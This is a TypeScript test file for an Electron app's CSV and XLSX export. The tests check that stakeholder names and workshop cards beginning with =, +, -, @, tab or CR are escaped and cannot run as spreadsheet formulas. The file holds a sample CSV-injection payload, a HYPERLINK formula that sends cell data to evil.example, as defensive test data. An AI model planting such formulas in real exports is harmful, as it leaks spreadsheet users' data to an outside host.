import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { excelCsv, excelNumber } from '../../electron/services/export/csv';
import { makeBackend } from './helpers';

// Cells a spreadsheet would run as formulas (CSV injection), including a multi-line one. Names
// are trimmed on entry, so a leading tab or CR is checked on the helper itself below.
const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")';
const HOSTILE = [EVIL, '+62 812 3456', '-1+2', '@SUM(1)', '=1+1\nbaris dua'];

const bytesOf = (f: { base64: string }) => Buffer.from(f.base64, 'base64');
function readCsv(f: { base64: string }): Record<string, string>[] {
  const text = bytesOf(f).toString('utf8');
  expect(text.charCodeAt(0)).toBe(0xfeff);
  return Papa.parse<Record<string, string>>(text.slice(1), { header: true, delimiter: ';', skipEmptyLines: true }).data;
}

async function mapWithHostileNames() {
  const b = makeBackend();
  const { id: projectId } = await b.ok('projects.create', { name: 'Klaster Mebel Rotan' });
  const people = [];
  for (const name of HOSTILE) people.push(await b.ok('stakeholders.create', { projectId, name, kind: 'core_firm' }));
  const plain = await b.ok('stakeholders.create', { projectId, name: 'Pak Darto', kind: 'core_firm', organisation: 'UD Rotan Jaya', interest: 4 });
  for (const p of people) await b.ok('relations.create', { projectId, sourceId: plain.id, targetId: p.id, kind: 'downstream' });
  await b.ok('relations.create', { projectId, sourceId: people[0]!.id, targetId: people[1]!.id, kind: 'information' });
  return { ...b, projectId };
}

describe('CSV exports cannot carry formulas', () => {
  it('map CSV: formula starts get a leading quote; ordinary names and numbers are unchanged', async () => {
    const { ok, projectId } = await mapWithHostileNames();
    const rows = readCsv(await ok('network.export', { projectId, format: 'csv' }));
    const byName = new Map(rows.map((r) => [r.nama!.replace(/^'/, ''), r]));
    for (const name of HOSTILE) expect(byName.get(name)?.nama, JSON.stringify(name)).toBe(`'${name}`);
    const darto = byName.get('Pak Darto')!;
    expect(darto).toMatchObject({ nama: 'Pak Darto', organisasi: 'UD Rotan Jaya', minat: '4', in_degree: '0', out_degree: '1' });
    // Metrics as Indonesian Excel reads them: integers as they are, else four places after a comma.
    for (const m of await ok('network.metrics', { projectId })) {
      const row = rows.find((r) => r.nama!.replace(/^'/, '') === m.name)!;
      for (const [col, value] of [['in_degree', m.inDegree], ['out_degree', m.outDegree], ['closeness', m.closeness], ['betweenness', m.betweenness], ['eigenvector', m.eigenvector]] as const) {
        expect(row[col], `${m.name} ${col}`).toBe(Number.isInteger(value) ? String(value) : value.toFixed(4).replace('.', ','));
      }
    }
  });

  it('map CSV for Indonesian Excel: kind labels, Ya/Tidak, decimal commas, no exponent', async () => {
    const { ok, projectId } = await mapWithHostileNames();
    const leader = await ok('stakeholders.create', { projectId, name: 'Bu Rini', kind: 'leading_firm', clusterMember: true, influence: 5 });
    const text = bytesOf(await ok('network.export', { projectId, format: 'csv' })).toString('utf8');
    expect(text).not.toMatch(/\b(core_firm|leading_firm|true|false)\b/);
    expect(text).not.toMatch(/\d[eE][-+]?\d/);
    const rows = readCsv({ base64: Buffer.from(text).toString('base64') });
    const rini = rows.find((r) => r.nama === leader.name)!;
    expect(rini).toMatchObject({ jenis: 'Perusahaan pemimpin / pedagang', ketua_kelompok: 'Tidak', anggota_klaster: 'Ya', pengaruh: '5' });
    expect(rows.find((r) => r.nama === 'Pak Darto')).toMatchObject({ jenis: 'Perusahaan inti', ketua_kelompok: 'Tidak' });
    // Still escaped, with the label beside it.
    expect(rows.find((r) => r.nama === `'${EVIL}`)).toMatchObject({ jenis: 'Perusahaan inti' });
  });

  it('workshop cards CSV: card text and author are escaped, counts and scores stay numbers', async () => {
    const { ok, projectId } = await mapWithHostileNames();
    const evil = (await ok('stakeholders.list', { projectId })).find((s) => s.name === EVIL)!;
    const w = await ok('workshops.create', { projectId, theme: 'Masalah utama klaster', stakeholderIds: [evil.id] });
    const card = await ok('cards.create', { projectId, workshopId: w.id, text: '-harga bahan naik', authorParticipantId: w.participants[0]!.id });
    await ok('cards.create', { projectId, workshopId: w.id, text: 'Pasar sepi', authorName: 'Bu Wati' });
    await ok('scores.set', { projectId, workshopId: w.id, targetType: 'card', targetId: card.id, importance: 3, feasibility: 4 });
    await ok('votes.set', { projectId, workshopId: w.id, targetType: 'card', targetId: card.id, participantId: null, dots: 2 });

    const rows = readCsv(await ok('workshops.exportCards', { projectId, id: w.id }));
    expect(rows[0]).toMatchObject({ no: '1', kartu: "'-harga bahan naik", penulis: `'${EVIL}`, titik: '2', kepentingan: '3', kelayakan: '4', nilai: '12', warna: 'Kuning', tersembunyi: 'Tidak' });
    expect(rows[1]).toMatchObject({ no: '2', kartu: 'Pasar sepi', penulis: 'Bu Wati', titik: '0' });
  });

  it('XLSX export writes such names as text cells, never as formulas', async () => {
    const { ok, projectId } = await mapWithHostileNames();
    const xlsx = bytesOf(await ok('network.export', { projectId, format: 'xlsx' }));
    const zip = unzipSync(xlsx);
    for (const sheet of Object.keys(zip).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))) {
      expect(strFromU8(zip[sheet]!), sheet).not.toMatch(/<f[\s>]/);
    }
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx as never);
    const names: unknown[] = [];
    book.getWorksheet('Pemangku kepentingan')!.eachRow((row, n) => {
      if (n === 1) return;
      expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
      names.push(row.getCell(1).value);
    });
    expect(names).toEqual(expect.arrayContaining([...HOSTILE, 'Pak Darto']));
    const tie = book.getWorksheet('Hubungan')!.getRow(2);
    expect(tie.getCell(1).type).toBe(ExcelJS.ValueType.String);
  });

  it('the helper also escapes a leading tab or CR and writes numbers and booleans for Excel id-ID, unescaped', () => {
    const text = excelCsv([{ a: '\t=1', b: '\r=1', c: -3, d: true, e: 'a=b', f: false, g: 0.0123, h: 4.688720127783603e-13, i: -0.25, j: -1e-9, k: 2.71828 }],
      ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j', 'k']).toString('utf8');
    const [row] = Papa.parse<Record<string, string>>(text.slice(1), { header: true, delimiter: ';' }).data;
    expect(row).toEqual({ a: "'\t=1", b: "'\r=1", c: '-3', d: 'Ya', e: 'a=b', f: 'Tidak', g: '0,0123', h: '0,0000', i: '-0,2500', j: '0,0000', k: '2,7183' });
    // Escaped text is quoted; a negative number is a number, not a formula to escape.
    expect(text.split('\r\n')[1]).toBe(`"'\t=1";"'\r=1";-3;Ya;a=b;Tidak;0,0123;0,0000;-0,2500;0,0000;2,7183`);
  });

  it('excelNumber: integers stay integers, the rest four places with a comma, never an exponent', () => {
    expect([0, -0, 7, -12, 123456789].map(excelNumber)).toEqual(['0', '0', '7', '-12', '123456789']);
    expect([0.5, 0.00005, 0.00004999, 1 / 3, 1e-300, 1234.56789].map(excelNumber)).toEqual(['0,5000', '0,0001', '0,0000', '0,3333', '0,0000', '1234,5679']);
    expect([1e22, 1e22 + 0.5].map(excelNumber).every((s) => !/e/i.test(s))).toBe(true);
  });

  it('every CSV the app writes goes through the one escaping helper', () => {
    const root = path.resolve(__dirname, '../..');
    const offenders = ['electron', 'renderer', 'shared']
      .flatMap((dir) => fs.readdirSync(path.join(root, dir), { recursive: true, encoding: 'utf8' }).map((f) => path.join(dir, f)))
      .filter((f) => /\.(ts|tsx)$/.test(f) && f !== path.join('electron', 'services', 'export', 'csv.ts'))
      .filter((f) => /\bunparse\s*\(/.test(fs.readFileSync(path.join(root, f), 'utf8')));
    expect(offenders).toEqual([]);
  });
});
